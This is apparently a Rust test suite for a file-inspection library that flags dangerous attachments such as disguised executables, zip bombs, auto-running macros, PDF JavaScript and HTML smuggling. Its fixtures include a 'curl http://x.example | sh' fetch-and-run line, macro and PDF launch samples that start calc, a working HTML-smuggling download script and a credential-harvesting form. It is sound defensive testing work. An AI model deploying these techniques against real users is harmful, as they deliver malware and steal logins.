//! Specification of `rampart_files::inspect`, one behaviour per test. Fixtures are built in code.

mod common;

use std::time::{Duration, Instant};

use base64::Engine;
use common::*;
use rampart_files::{inspect, FileKind, Limits};
use zip::CompressionMethod;

// ---------------------------------------------------------------------------------------------
// True type from magic bytes

#[test]
fn identifies_executables_by_magic_not_by_name() {
    let mut macho = vec![0u8; 32];
    macho[..4].copy_from_slice(b"\xCF\xFA\xED\xFE");
    let mut fat = vec![0u8; 32];
    fat[..8].copy_from_slice(b"\xCA\xFE\xBA\xBE\x00\x00\x00\x02");
    for (bytes, name, kind) in [
        (pe(256), "holiday.jpg", FileKind::Pe),
        (elf(), "notes.txt", FileKind::Elf),
        (macho, "readme", FileKind::MachO),
        (fat, "universal.bin", FileKind::MachO),
    ] {
        let r = report(name, &bytes);
        assert_eq!(r.kind, kind, "{name}");
        assert!(
            has(&r, "file.executable"),
            "{name}: {:?}",
            finding_names(&r)
        );
    }
}

#[test]
fn identifies_scripts_by_shebang_and_by_windows_script_extension() {
    let r = report("install", b"#!/bin/sh\ncurl http://x.example | sh\n");
    assert_eq!(r.kind, FileKind::Script);
    assert!(
        r.finding("file.script").is_none(),
        "a shell script is not a Windows script"
    );
    let unix = r.finding("file.unix_script").expect("shebang script");
    assert!(unix.score < 7.0, "needs chmod to run: moderate");
    for ext in ["js", "jse", "vbs", "vbe", "wsf", "ps1", "bat", "cmd"] {
        let name = format!("payload.{ext}");
        let r = report(&name, b"WScript.Echo \"hello\"\r\n");
        assert_eq!(r.kind, FileKind::Script, "{name}");
        assert!(
            r.finding("file.script").expect(&name).score >= 6.0,
            "{name}"
        );
    }
    // The Windows Script Encoder marker, whatever the name.
    let r = report("data.txt", b"#@~^XAAAAA==v,Z~r8@#@&AAAAAA==^#~@");
    assert_eq!(r.kind, FileKind::Script);
}

#[test]
fn flags_shortcuts_both_shell_links_and_internet_shortcuts() {
    let mut lnk = vec![0u8; 0x4C + 16];
    lnk[..20].copy_from_slice(
        b"\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46",
    );
    let r = report("document.pdf.lnk", &lnk);
    assert_eq!(r.kind, FileKind::Shortcut);
    assert!(has(&r, "file.shortcut"));
    let r = report(
        "open.url",
        b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/x.exe\r\n",
    );
    assert_eq!(r.kind, FileKind::Shortcut);
    assert!(has(&r, "file.shortcut"));
}

#[test]
fn flags_disk_images_iso_img_vhd_and_vhdx() {
    let mut iso = vec![0u8; 0x8800];
    iso[0x8000] = 1;
    iso[0x8001..0x8006].copy_from_slice(b"CD001");
    let mut img = vec![0u8; 1024];
    img[..3].copy_from_slice(&[0xEB, 0x3C, 0x90]);
    img[0x36..0x3E].copy_from_slice(b"FAT12   ");
    img[510] = 0x55;
    img[511] = 0xAA;
    let mut fixed_vhd = vec![0u8; 2048];
    fixed_vhd[2048 - 512..2048 - 504].copy_from_slice(b"conectix");
    let mut dynamic_vhd = vec![0u8; 1024];
    dynamic_vhd[..8].copy_from_slice(b"conectix");
    let mut vhdx = vec![0u8; 1024];
    vhdx[..8].copy_from_slice(b"vhdxfile");
    for (bytes, name, kind) in [
        (iso, "invoice.iso", FileKind::Iso),
        (img, "invoice.img", FileKind::DiskImage),
        (fixed_vhd, "disk.vhd", FileKind::Vhd),
        (dynamic_vhd, "disk2.vhd", FileKind::Vhd),
        (vhdx, "disk.vhdx", FileKind::Vhdx),
    ] {
        let r = report(name, &bytes);
        assert_eq!(r.kind, kind, "{name}");
        assert!(has(&r, "file.disk_image"), "{name}");
        assert!(!has(&r, "file.type_mismatch"), "{name}: {:?}", r.findings);
    }
}

#[test]
fn flags_html_applications_by_name_and_by_hta_tag() {
    let r = report(
        "update.hta",
        b"<html><script>new ActiveXObject('WScript.Shell')</script></html>",
    );
    assert_eq!(r.kind, FileKind::Hta);
    assert!(has(&r, "file.hta"));
    let r = report(
        "page.html",
        b"<html><head><HTA:APPLICATION ID=\"x\"/></head><body></body></html>",
    );
    assert_eq!(r.kind, FileKind::Hta);
    assert!(has(&r, "file.hta"));
}

#[test]
fn flags_compiled_html_help() {
    let mut chm = b"ITSF\x03\x00\x00\x00\x60\x00\x00\x00".to_vec();
    chm.resize(256, 0);
    let r = report("manual.chm", &chm);
    assert_eq!(r.kind, FileKind::Chm);
    assert!(has(&r, "file.chm"));
}

#[test]
fn flags_windows_installers_by_class_id_and_by_name() {
    let msi_clsid = uuid::Uuid::from_u128(0x000C1084_0000_0000_C000_000000000046);
    let bytes = ole(&[], &[("/Tables", b"tables")], Some(msi_clsid));
    let r = report("update.dat", &bytes);
    assert_eq!(r.kind, FileKind::Msi);
    assert!(has(&r, "file.msi"));

    let plain = ole(&[], &[("/SummaryInformation", b"x")], None);
    let r = report("setup.msi", &plain);
    assert_eq!(r.kind, FileKind::Msi);
    assert!(has(&r, "file.msi"));
    assert_eq!(report("setup.bin", &plain).kind, FileKind::Ole2);
}

#[test]
fn identifies_archives_documents_and_media_without_flagging_them() {
    let mut png = b"\x89PNG\r\n\x1A\n\0\0\0\rIHDR".to_vec();
    png.resize(64, 0);
    let mut jpeg = b"\xFF\xD8\xFF\xE0\0\x10JFIF\0".to_vec();
    jpeg.resize(64, 0);
    let cases: Vec<(Vec<u8>, &str, FileKind)> = vec![
        (zip_of(&[("a.txt", b"hello")]), "a.zip", FileKind::Zip),
        (
            b"7z\xBC\xAF\x27\x1C\x00\x04rest".to_vec(),
            "a.7z",
            FileKind::SevenZip,
        ),
        (b"Rar!\x1A\x07\x01\x00rest".to_vec(), "a.rar", FileKind::Rar),
        (gzip(b"hello"), "a.txt.gz", FileKind::Gzip),
        (
            ole(&[], &[("/WordDocument", b"text")], None),
            "a.doc",
            FileKind::Ole2,
        ),
        (
            zip_of(&[
                ("[Content_Types].xml", b"<Types/>"),
                ("word/document.xml", b"<w:document/>"),
            ]),
            "a.docx",
            FileKind::Ooxml,
        ),
        (pdf(&[b"<< /Type /Catalog >>"]), "a.pdf", FileKind::Pdf),
        (
            b"<!DOCTYPE html><html><body>hi</body></html>".to_vec(),
            "a.html",
            FileKind::Html,
        ),
        (
            b"Meeting at noon.\nBring slides.\n".to_vec(),
            "a.txt",
            FileKind::Text,
        ),
        (png, "a.png", FileKind::Png),
        (jpeg, "a.jpg", FileKind::Jpeg),
        (b"GIF89a\x01\x00\x01\x00".to_vec(), "a.gif", FileKind::Gif),
    ];
    for (bytes, name, kind) in cases {
        let r = report(name, &bytes);
        assert_eq!(r.kind, kind, "{name}");
        let serious: Vec<_> = r
            .findings
            .iter()
            .filter(|f| f.name != "file.opaque_archive")
            .collect();
        assert!(serious.is_empty(), "{name}: {serious:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// Names and declared types

#[test]
fn flags_double_extensions_padding_and_right_to_left_override() {
    for name in [
        "invoice.pdf.exe",
        "invoice.pdf                                   .exe",
        "invoice\u{202E}fdp.exe",
        "scan.JPG.js",
    ] {
        let r = report(name, &pe(128));
        assert!(has(&r, "file.double_extension"), "{name:?}");
    }
    let rtlo = report("invoice\u{202E}fdp.exe", &pe(128));
    assert!(evidence(&rtlo, "file.double_extension").contains("invoice<U+202E>fdp.exe"));
    assert!(!has(
        &report("setup.exe", &pe(128)),
        "file.double_extension"
    ));
    assert!(!has(
        &report("backup.tar.gz", &gzip(b"x")),
        "file.double_extension"
    ));
}

#[test]
fn flags_a_name_or_declared_type_that_lies_about_the_content() {
    let r = report("report.pdf", &pe(128));
    assert!(has(&r, "file.type_mismatch"));
    assert!(evidence(&r, "file.type_mismatch").contains(".pdf is pe"));

    let r = inspect(
        Some("photo"),
        Some("image/jpeg"),
        &elf(),
        &Limits::default(),
    );
    assert!(evidence(&r, "file.type_mismatch").contains("declared image/jpeg is elf"));

    let r = inspect(
        Some("report.pdf"),
        Some("application/pdf; name=report.pdf"),
        &pdf(&[b"<< >>"]),
        &Limits::default(),
    );
    assert!(!has(&r, "file.type_mismatch"));
    let r = inspect(
        Some("x.bin"),
        Some("application/octet-stream"),
        &pe(128),
        &Limits::default(),
    );
    assert!(!has(&r, "file.type_mismatch"));
}

#[test]
fn tolerates_harmless_renames() {
    let mut png = b"\x89PNG\r\n\x1A\n\0\0\0\rIHDR".to_vec();
    png.resize(64, 0);
    let docx = zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
    ]);
    let encrypted_xlsx = ole(
        &[],
        &[
            ("/EncryptionInfo", b"\x04\x00"),
            ("/EncryptedPackage", b"xx"),
        ],
        None,
    );
    for (name, bytes) in [
        ("photo.jpg", png),
        ("letter.doc", docx),
        ("salary.xlsx", encrypted_xlsx),
        (
            "notes.txt",
            b"#!/bin/sh\necho this is how to do it\n".to_vec(),
        ),
    ] {
        let r = report(name, &bytes);
        assert!(!has(&r, "file.type_mismatch"), "{name}: {:?}", r.findings);
        assert!(!has(&r, "file.script"), "{name}");
    }
}

// ---------------------------------------------------------------------------------------------
// Archives

#[test]
fn reports_dangerous_files_inside_nested_archives_with_their_path() {
    let inner = zip_of(&[("a.exe", &pe(4096)), ("readme.txt", b"hi")]);
    let outer = zip_of(&[("inner.zip", &inner)]);
    let r = report("evil.zip", &outer);
    assert_eq!(r.kind, FileKind::Zip);
    assert!(
        evidence(&r, "file.executable").contains("evil.zip!/inner.zip!/a.exe"),
        "{:?}",
        r.findings
    );
    let child = r
        .children
        .iter()
        .find(|c| c.path == "inner.zip!/a.exe")
        .expect("nested child");
    assert_eq!(child.kind, FileKind::Pe);
    assert_eq!(child.size, 4096);
    assert_eq!(child.sha256.as_deref().map(str::len), Some(64));
    assert_eq!(child.bytes.as_deref(), Some(&pe(4096)[..]));
    assert_eq!(
        r.children[0].path, "inner.zip",
        "parents come before their children"
    );
}

#[test]
fn flags_encrypted_entries_and_judges_them_by_name() {
    let zip = mark_encrypted(zip_with(
        &[("invoice.exe", &pe(512)), ("notes.txt", b"x")],
        CompressionMethod::Stored,
    ));
    let r = report("invoice.zip", &zip);
    assert!(has(&r, "file.encrypted_archive"), "{:?}", r.findings);
    assert!(r.finding("file.encrypted_archive").expect("raised").score >= 3.0);
    assert!(
        evidence(&r, "file.executable").contains("invoice.zip!/invoice.exe (encrypted, by name)")
    );
    assert!(r.children.iter().all(|c| c.encrypted && c.bytes.is_none()));
}

#[test]
fn judges_entries_it_cannot_inflate_by_name() {
    let mut zip = zip_with(&[("setup.exe", &pe(512))], CompressionMethod::Stored);
    // Claim LZMA (method 14), which this build does not inflate.
    let mut i = 0;
    while i + 12 < zip.len() {
        if zip[i..].starts_with(b"PK\x03\x04") {
            zip[i + 8] = 14;
        } else if zip[i..].starts_with(b"PK\x01\x02") {
            zip[i + 10] = 14;
        }
        i += 1;
    }
    let r = report("tools.zip", &zip);
    assert!(evidence(&r, "file.executable").contains("tools.zip!/setup.exe (unreadable, by name)"));
    assert!(!r.problems.is_empty());
}

#[test]
fn flags_a_zip_bomb_without_unpacking_it() {
    let zeros = vec![0u8; 64 * 1024 * 1024];
    let bomb = zip_of(&[("zeros.bin", &zeros)]);
    drop(zeros);
    assert!(bomb.len() < 1024 * 1024);
    let started = Instant::now();
    let r = report("bomb.zip", &bomb);
    assert!(started.elapsed() < Duration::from_secs(1));
    assert!(has(&r, "file.archive_bomb"), "{:?}", r.findings);
    assert!(r.children.is_empty(), "nothing inflated");
}

#[test]
fn stops_at_the_total_uncompressed_budget() {
    let chunk: Vec<u8> = (0..400_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    let zip = zip_with(
        &[
            ("a.bin", &chunk),
            ("b.bin", &chunk),
            ("c.bin", &chunk),
            ("d.bin", &chunk),
        ],
        CompressionMethod::Stored,
    );
    let limits = Limits {
        max_total_uncompressed: 1_000_000,
        ..Limits::default()
    };
    let r = inspect(Some("big.zip"), None, &zip, &limits);
    assert!(has(&r, "file.archive_bomb"));
    let kept: usize = r
        .children
        .iter()
        .filter_map(|c| c.bytes.as_ref())
        .map(Vec::len)
        .sum();
    assert!(kept <= 1_000_000);
    assert_eq!(r.children.len(), 2);
}

#[test]
fn flags_archives_with_more_entries_than_the_cap() {
    let names: Vec<String> = (0..30).map(|i| format!("f{i}.txt")).collect();
    let entries: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let zip = zip_of(&entries);
    let limits = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    let r = inspect(Some("many.zip"), None, &zip, &limits);
    assert!(evidence(&r, "file.archive_bomb").contains("30 entries declared"));
    assert!(r.children.is_empty());
}

#[test]
fn never_inflates_more_than_the_header_allows_even_when_it_lies() {
    // The central directory and local header claim 1000 bytes; the data inflates to 32 MiB.
    let mut zip = zip_of(&[("small.txt", &vec![b'a'; 32 * 1024 * 1024])]);
    let mut i = 0;
    while i + 30 < zip.len() {
        if zip[i..].starts_with(b"PK\x03\x04") {
            zip[i + 22..i + 26].copy_from_slice(&1000u32.to_le_bytes());
        } else if zip[i..].starts_with(b"PK\x01\x02") {
            zip[i + 24..i + 28].copy_from_slice(&1000u32.to_le_bytes());
        }
        i += 1;
    }
    let started = Instant::now();
    let r = report("liar.zip", &zip);
    assert!(started.elapsed() < Duration::from_secs(1));
    let inflated: u64 = r.children.iter().map(|c| c.size).sum();
    assert!(inflated <= 1024 * 1024, "inflated {inflated}");
}

#[test]
fn flags_archives_nested_deeper_than_the_limit() {
    let mut zip = zip_of(&[("a.exe", &pe(256))]);
    for level in 0..5 {
        zip = zip_of(&[(&format!("level{level}.zip"), &zip)]);
    }
    let r = report("deep.zip", &zip);
    assert!(has(&r, "file.archive_too_deep"), "{:?}", r.findings);
    assert!(evidence(&r, "file.archive_too_deep")
        .contains("deep.zip!/level4.zip!/level3.zip!/level2.zip (zip nested 3 deep"));
    assert!(!has(&r, "file.executable"), "the exe is below the cut");
}

#[test]
fn unpacks_gzip_and_examines_what_is_inside() {
    let r = report("payload.exe.gz", &gzip(&pe(1000)));
    assert_eq!(r.kind, FileKind::Gzip);
    assert!(evidence(&r, "file.executable").contains("payload.exe.gz!/payload.exe"));
    assert_eq!(r.children[0].kind, FileKind::Pe);
}

#[test]
fn reports_unreadable_archives_as_problems_not_failures() {
    let mut zip = zip_of(&[("a.txt", b"hello")]);
    let len = zip.len();
    zip.truncate(len - 10);
    let r = report("broken.zip", &zip);
    assert_eq!(r.kind, FileKind::Zip);
    assert!(!r.problems.is_empty());
    assert!(has(&r, "file.malformed_archive"));
}

// ---------------------------------------------------------------------------------------------
// Office macros

const AUTO_OPEN_SOURCE: &str = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Set s = CreateObject(\"WScript.Shell\")\r\n  s.Run \"calc\"\r\nEnd Sub\r\n";

#[test]
fn flags_word_97_macros_and_their_auto_exec_entry_point() {
    let doc = ole(
        &["/Macros", "/Macros/VBA"],
        &[
            ("/WordDocument", b"text"),
            ("/Macros/VBA/dir", b"\x01\x00\x00"),
            ("/Macros/VBA/ThisDocument", &vba_module(AUTO_OPEN_SOURCE)),
        ],
        None,
    );
    let r = report("letter.doc", &doc);
    assert_eq!(r.kind, FileKind::Ole2);
    assert!(r.finding("file.macro").expect("macro").score >= 6.0);
    assert!(evidence(&r, "file.macro_autoexec").contains("AutoOpen"));
    assert!(evidence(&r, "file.macro_suspicious").contains("WScript.Shell"));
}

#[test]
fn flags_excel_vba_projects() {
    let source =
        "Attribute VB_Name = \"ThisWorkbook\"\r\nPrivate Sub Workbook_Open()\r\nEnd Sub\r\n";
    let book = ole(
        &["/_VBA_PROJECT_CUR", "/_VBA_PROJECT_CUR/VBA"],
        &[
            ("/Workbook", b"biff"),
            ("/_VBA_PROJECT_CUR/VBA/ThisWorkbook", &vba_module(source)),
        ],
        None,
    );
    let r = report("budget.xls", &book);
    assert!(has(&r, "file.macro"));
    assert!(evidence(&r, "file.macro_autoexec").contains("Workbook_Open"));
}

#[test]
fn flags_macro_enabled_ooxml_by_vba_part_and_content_type() {
    let vba = ole(
        &["/VBA"],
        &[("/VBA/ThisDocument", &vba_module(AUTO_OPEN_SOURCE))],
        None,
    );
    let docm = zip_of(&[
        (
            "[Content_Types].xml",
            b"<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>",
        ),
        ("word/document.xml", b"<w:document/>"),
        ("word/vbaProject.bin", &vba),
    ]);
    let r = report("offer.docm", &docm);
    assert_eq!(r.kind, FileKind::Ooxml);
    let macro_evidence = evidence(&r, "file.macro");
    assert!(
        macro_evidence.contains("offer.docm!/word/vbaProject.bin"),
        "{macro_evidence}"
    );
    assert!(macro_evidence.contains("macro-enabled content type"));
    assert!(evidence(&r, "file.macro_autoexec").contains("AutoOpen"));

    let xlsm = zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("xl/workbook.xml", b"<workbook/>"),
        ("xl/vbaProject.bin", b"not even ole"),
    ]);
    assert!(has(&report("sheet.xlsx", &xlsm), "file.macro"));
}

#[test]
fn flags_opendocument_macro_libraries() {
    let odt = zip_with(
        &[
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", b"<office:document-content/>"),
            (
                "Basic/Standard/Module1.xml",
                b"<script:module script:name=\"Module1\"/>",
            ),
        ],
        CompressionMethod::Stored,
    );
    let r = report("letter.odt", &odt);
    assert!(evidence(&r, "file.macro").contains("letter.odt!/Basic/Standard/Module1.xml"));
}

#[test]
fn flags_remote_templates_and_collects_ooxml_hyperlinks() {
    let docx = zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
        (
            "word/_rels/document.xml.rels",
            b"<Relationships><Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://phish.example/login?u=1&amp;v=2\" TargetMode=\"External\"/></Relationships>",
        ),
        (
            "word/_rels/settings.xml.rels",
            b"<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://198.51.100.7/t.dotm\" TargetMode=\"External\"/></Relationships>",
        ),
    ]);
    let r = report("cv.docx", &docx);
    assert!(evidence(&r, "file.remote_template").contains("http://198.51.100.7/t.dotm"));
    let texts = r.texts.join("\n");
    assert!(texts.contains("https://phish.example/login?u=1&v=2"));
    assert!(r.children.is_empty(), "XML parts are not children");
}

#[test]
fn unpacks_executables_packaged_inside_ole_documents() {
    let mut package = Vec::new();
    package.extend_from_slice(&0u32.to_le_bytes());
    package.extend_from_slice(&2u16.to_le_bytes());
    package.extend_from_slice(b"invoice.pdf.exe\0C:\\Users\\x\\invoice.pdf.exe\0");
    package.extend_from_slice(&0x0003_0000u32.to_le_bytes());
    package.extend_from_slice(&30u32.to_le_bytes());
    package.extend_from_slice(b"C:\\Temp\\invoice.pdf.exe\0");
    let exe = pe(2048);
    package.extend_from_slice(&u32::try_from(exe.len()).expect("len").to_le_bytes());
    package.extend_from_slice(&exe);
    let doc = ole(
        &["/ObjectPool", "/ObjectPool/_1234"],
        &[
            ("/WordDocument", b"t"),
            ("/ObjectPool/_1234/\u{1}Ole10Native", &package),
        ],
        None,
    );
    let r = report("order.doc", &doc);
    assert!(evidence(&r, "file.executable").contains("order.doc!/invoice.pdf.exe"));
    assert!(has(&r, "file.double_extension"));
}

#[test]
fn flags_password_protected_office_documents() {
    let doc = ole(
        &[],
        &[
            ("/EncryptionInfo", b"\x04\x00\x04\x00"),
            ("/EncryptedPackage", b"xxxx"),
        ],
        None,
    );
    let r = report("salary.xlsx", &doc);
    assert!(has(&r, "file.encrypted_document"));
}

// ---------------------------------------------------------------------------------------------
// PDF

#[test]
fn flags_pdf_javascript_and_auto_actions() {
    let doc = pdf(&[
        b"<< /Type /Catalog /OpenAction 2 0 R /AA << /WC 2 0 R >> >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    ]);
    let r = report("doc.pdf", &doc);
    assert!(has(&r, "file.pdf_javascript"));
    assert!(r.finding("file.pdf_javascript").expect("js").score >= 6.0);
    let auto = evidence(&r, "file.pdf_auto_action");
    assert!(
        auto.contains("/OpenAction") && auto.contains("/AA"),
        "{auto}"
    );
}

#[test]
fn sees_through_hex_escaped_pdf_names() {
    let doc = pdf(&[
        b"<< /Type /Catalog /OpenAction 2 0 R >>",
        b"<< /S /J#61vaScript /#4A#53 (x) >>",
    ]);
    let r = report("doc.pdf", &doc);
    assert!(evidence(&r, "file.pdf_javascript").contains("/J#61vaScript"));
    assert!(has(&r, "file.pdf_obfuscated_name"));
}

#[test]
fn flags_pdf_launch_actions() {
    let doc = pdf(&[
        b"<< /Type /Catalog /OpenAction 2 0 R >>",
        b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
    ]);
    let r = report("doc.pdf", &doc);
    assert!(r.finding("file.pdf_launch").expect("launch").score >= 6.0);
}

#[test]
fn collects_pdf_uris_into_texts() {
    let doc = pdf(&[
        b"<< /Type /Catalog >>",
        b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://login.phish.example/o365) >> >>",
    ]);
    let r = report("doc.pdf", &doc);
    assert!(r
        .texts
        .iter()
        .any(|t| t.contains("https://login.phish.example/o365")));
    assert!(r.findings.is_empty(), "{:?}", r.findings);
}

#[test]
fn finds_javascript_hidden_in_compressed_object_streams() {
    let mut objects = b"2 0 << /S /JavaScript /JS (this.exportDataObject\\(\\)) >>".to_vec();
    objects.extend_from_slice(&b" << /Filler true >>".repeat(200));
    let objstm = pdf_stream(
        "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
        &zlib(&objects),
    );
    let doc = pdf(&[b"<< /Type /Catalog /OpenAction 2 0 R >>", &objstm]);
    assert!(memchr::memmem::find(&doc, b"JavaScript").is_none());
    let r = report("doc.pdf", &doc);
    assert!(has(&r, "file.pdf_javascript"), "{:?}", r.findings);
}

#[test]
fn unpacks_files_embedded_in_a_pdf() {
    let exe = pe(3000);
    let embedded = pdf_stream("/Type /EmbeddedFile /Filter /FlateDecode", &zlib(&exe));
    let doc = pdf(&[
        b"<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a) 2 0 R] >> >> >>",
        b"<< /Type /Filespec /F (invoice.exe) /EF << /F 3 0 R >> >>",
        &embedded,
    ]);
    let r = report("statement.pdf", &doc);
    assert!(has(&r, "file.pdf_embedded_file"));
    assert!(
        evidence(&r, "file.executable").contains("statement.pdf!/invoice.exe"),
        "{:?}",
        r.findings
    );
    assert_eq!(r.children.len(), 1);
    assert_eq!(r.children[0].bytes.as_deref(), Some(&exe[..]));
}

// ---------------------------------------------------------------------------------------------
// HTML

#[test]
fn flags_html_credential_forms_and_keeps_the_html_as_text() {
    let page = b"<html><body><img src=\"https://cdn.example/logo.png\"><form method=post action=\"https://collect.example/p.php\"><input type=\"email\" name=\"u\"><INPUT TYPE=PASSWORD name=\"p\"></form></body></html>";
    let r = report("Microsoft365.html", page);
    assert_eq!(r.kind, FileKind::Html);
    assert!(evidence(&r, "file.html_credential_form").contains("https://collect.example/p.php"));
    assert!(r
        .texts
        .iter()
        .any(|t| t.contains("https://cdn.example/logo.png")));
}

#[test]
fn flags_html_smuggling_and_examines_the_smuggled_payload() {
    let payload = zip_of(&[("invoice.exe", &pe(8192))]);
    let b64 = base64::engine::general_purpose::STANDARD.encode(&payload);
    let page = format!(
        "<html><body><script>\nvar d = atob(\"{b64}\");\nvar u = new Uint8Array(d.length);\nfor (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);\nvar b = new Blob([u], {{type: 'application/octet-stream'}});\nvar a = document.createElement('a');\na.href = window.URL.createObjectURL(b);\na.download = 'invoice.zip';\na.click();\n</script></body></html>"
    );
    let r = report("invoice.html", page.as_bytes());
    assert!(has(&r, "file.html_smuggling"), "{:?}", r.findings);
    assert!(r.finding("file.html_smuggling").expect("raised").score >= 6.0);
    assert!(
        evidence(&r, "file.executable").contains("invoice.html!/smuggled1!/invoice.exe"),
        "{:?}",
        r.findings
    );
    assert_eq!(r.children[0].kind, FileKind::Zip);
}

#[test]
fn flags_data_uris_that_carry_downloads() {
    let page = b"<html><body><a href=\"data:application/octet-stream;base64,TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=\" download=\"x.exe\">Open</a></body></html>";
    let r = report("x.htm", page);
    assert!(evidence(&r, "file.html_smuggling").contains("application/octet-stream"));
    assert_eq!(r.children.first().map(|c| c.kind), Some(FileKind::Pe));
}

#[test]
fn leaves_ordinary_html_alone() {
    let page = b"<!DOCTYPE html><html><head><title>News</title></head><body><p>Hello <a href=\"https://example.com/a\">there</a></p><img src=\"data:image/png;base64,iVBORw0KGgo=\"><script>document.getElementById('x').onclick = function() {};</script></body></html>";
    let r = report("newsletter.html", page);
    assert!(r.findings.is_empty(), "{:?}", r.findings);
    assert!(r.children.is_empty());
    assert_eq!(r.texts.len(), 1);
}

// ---------------------------------------------------------------------------------------------
// Bounds

#[test]
fn handles_a_large_random_blob_quickly_and_quietly() {
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    let blob: Vec<u8> = (0..20 * 1024 * 1024)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 32) as u8
        })
        .collect();
    let started = Instant::now();
    let r = report("data.bin", &blob);
    assert!(started.elapsed() < Duration::from_secs(2));
    assert_eq!(r.kind, FileKind::Unknown);
    assert!(r.findings.is_empty());
}

#[test]
fn keeps_texts_within_the_text_budget() {
    let text = "https://example.com/ ".repeat(10_000);
    let limits = Limits {
        max_text: 1000,
        ..Limits::default()
    };
    let r = inspect(Some("a.txt"), None, text.as_bytes(), &limits);
    assert!(r.texts.iter().map(String::len).sum::<usize>() <= 1000);
}

// ---------------------------------------------------------------------------------------------
// Timings (run once by hand: cargo test -p rampart-files --test inspect -- --ignored --nocapture)

#[test]
#[ignore = "measurement, not a check"]
fn measures_inspection_time() {
    let time = |label: &str, name: &str, bytes: &[u8]| {
        let started = Instant::now();
        let r = report(name, bytes);
        let took = started.elapsed();
        println!(
            "{label}: {} bytes in {:?} -> kind {}, findings {:?}, children {}",
            bytes.len(),
            took,
            r.kind,
            finding_names(&r),
            r.children.len()
        );
    };
    let mut x: u64 = 0x2545_F491_4F6C_DD1D;
    let mut random = |n: usize| -> Vec<u8> {
        (0..n)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                (x >> 32) as u8
            })
            .collect()
    };

    let ten_mb: Vec<(String, Vec<u8>)> = (0..10)
        .map(|i| (format!("part{i}.bin"), random(1024 * 1024)))
        .collect();
    let entries: Vec<(&str, &[u8])> = ten_mb
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    let zip10 = zip_of(&entries);
    time("10 MB zip (10 entries of random data)", "data.zip", &zip10);

    let mut text: Vec<(String, Vec<u8>)> = Vec::new();
    for i in 0..10 {
        let line = format!("line {i} of a compressible log file with some numbers 1234567890\n");
        text.push((
            format!("log{i}.txt"),
            line.repeat(1024 * 1024 / line.len()).into_bytes(),
        ));
    }
    let entries: Vec<(&str, &[u8])> = text
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    time(
        "10 MB of text inflated from a small zip",
        "logs.zip",
        &zip_of(&entries),
    );

    let zeros = vec![0u8; 1024 * 1024 * 1024];
    let bomb = zip_of(&[("zeros.bin", &zeros)]);
    drop(zeros);
    time("1 GB-declared zip bomb", "bomb.zip", &bomb);

    let mut logs: Vec<(String, Vec<u8>)> = Vec::new();
    for i in 0..19 {
        let mut data = Vec::with_capacity(5 * 1024 * 1024);
        let mut n = 0u64;
        while data.len() < 5 * 1024 * 1024 {
            data.extend_from_slice(
                format!("{n} GET /item/{} 200 {}\n", n * 7919 % 100_003, n % 977).as_bytes(),
            );
            n += 1;
        }
        logs.push((format!("access{i}.log"), data));
    }
    let entries: Vec<(&str, &[u8])> = logs
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    time(
        "95 MB of logs in a zip (inflated up to the 100 MiB budget)",
        "logs.zip",
        &zip_of(&entries),
    );
    drop(logs);

    let mut page = b"<html><script>var p = atob(\"".to_vec();
    page.extend(b"QUJD".iter().copied().cycle().take(50 * 1024 * 1024));
    page.extend_from_slice(b"\"); var b = new Blob([p]); URL.createObjectURL(b);</script></html>");
    time("50 MB HTML smuggling page", "page.html", &page);

    let mut doc = b"%PDF-1.7\n".to_vec();
    while doc.len() < 50 * 1024 * 1024 {
        doc.extend_from_slice(b"1 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://a.example/x) >> /F 4 >> endobj\n");
    }
    time("50 MB PDF of link annotations", "links.pdf", &doc);

    let blob = random(50 * 1024 * 1024);
    time("50 MB random blob", "blob.bin", &blob);
    time("50 MB random blob named .pdf", "blob.pdf", &blob);
}
